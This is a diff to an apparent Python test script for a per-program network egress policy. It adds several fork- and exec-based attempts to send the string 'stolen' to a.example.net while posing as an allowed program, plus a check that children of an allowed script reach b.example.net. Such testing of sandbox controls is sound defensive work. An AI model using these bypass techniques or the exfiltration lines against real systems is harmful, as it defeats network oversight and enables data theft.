@@ -1,7 +1,7 @@
 """Connects as a program that has no right, and becomes or hides behind one that has before anybody looks.
 
 Every attack aims at a.example.net, which only `sleep`, `curl` and an allowed script may reach; whoever gets through is
-seen there. The last lines show that the same policy lets the allowed ones through to b.example.net."""
+seen there. The last lines show that allowed ones, and what an allowed one starts, get through to b.example.net."""
 import ctypes, json, os, socket, struct, subprocess, sys, threading, time
 
 TRIES = int(sys.argv[1])
@@ -129,6 +129,31 @@ def with_the_socket_on_its_way(way):
     s.close()
     become("sleep")
 
+def as_a_child_of_what_comes_later(way):
+    if os.fork() == 0:
+        time.sleep(0.03)
+        sent(way)
+        os._exit(0)
+    become("sleep")
+
+def as_a_child_of_what_comes_now(way):
+    if os.fork() == 0:
+        sent(way)
+        os._exit(0)
+    become("sleep")
+
+def as_another_program_with_such_a_parent(way):
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-Sc", f"import socket; s = socket.create_connection({way[0]!r}); s.sendall({way[1]!r})"])
+    become("sleep")
+
+def as_a_child_of_the_script_that_comes_later(way):
+    if os.fork() == 0:
+        time.sleep(0.05)
+        sent(way)
+        os._exit(0)
+    become("script")
+
 def into_the_memory_of(way):
     """Writes into an allowed program's memory; what it would say does not matter if it cannot be opened."""
     victim = subprocess.Popen(["/usr/bin/sleep", "0.2"])
@@ -160,12 +185,16 @@ def tried(attack, way, times):
 direct = (socket.getaddrinfo("a.example.net", 7, socket.AF_INET, socket.SOCK_STREAM)[0][4], b"stolen")
 attacks = [at_once, same_interpreter, before_it_is_connected, from_a_thread_without_a_leader, through_a_child,
            with_a_shared_table, with_another_socket_in_its_place, without_connect, with_a_late_connect,
-           again_on_the_same_socket, with_the_socket_on_its_way, into_the_memory_of]
+           again_on_the_same_socket, with_the_socket_on_its_way, as_a_child_of_what_comes_later, as_a_child_of_what_comes_now,
+           as_another_program_with_such_a_parent, as_a_child_of_the_script_that_comes_later, into_the_memory_of]
 result = {}
 for attack in attacks:
     for name, way in (("CONNECT", (PROXY, HEAD)), ("captured", direct)):
         result[f"{attack.__name__}, {name}"] = tried(attack, way, TRIES if attack in attacks[:3] else min(TRIES, 20))
 allowed = subprocess.run([ALLOWED, "ask"], capture_output=True, text=True).stdout.strip()
+ask = open(ALLOWED).read().replace("len(sys.argv) > 1", "True")
+child = subprocess.run(["/usr/bin/timeout", "9", "/bin/sh", "-c", f"{sys.executable} -c '{ask}'; true"],
+                       capture_output=True, text=True).stdout.strip()
 curl = subprocess.run(["/usr/bin/curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "http://b.example.net/"],
                       capture_output=True, text=True).stdout
-print(json.dumps({"failed": result, "allowed": {"script": allowed, "curl": curl}}))
+print(json.dumps({"failed": result, "allowed": {"script": allowed, "curl": curl, "child": child}}))
